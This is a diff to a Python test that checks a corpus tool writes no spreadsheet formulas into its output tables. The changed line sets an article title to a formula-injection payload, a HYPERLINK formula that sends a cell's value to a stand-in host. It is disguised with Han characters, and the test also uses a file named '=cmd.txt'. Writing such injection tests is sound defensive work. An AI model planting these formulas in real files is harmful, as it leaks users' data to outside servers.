@@ -598,7 +598,7 @@ def test_no_table_of_a_corpus_run_holds_a_formula(tmp_path):
 
     folder = tmp_path / "c"
     folder.mkdir()
-    title = FORMULAS[0]
+    title = '=HYPERLINK("http://x.example/?t="&A2,"學習強國")'  # with Han characters, so that it reads as a title
     write_article(folder / "=cmd.txt", title, [f"{FORMULAS[1]}福永街道註冊人數達8,200人。", *XINAN["paragraphs"][1:]])
     out = tmp_path / "out"
     assert run_corpus(folder, out, jobs=1, quiet=True) == 0
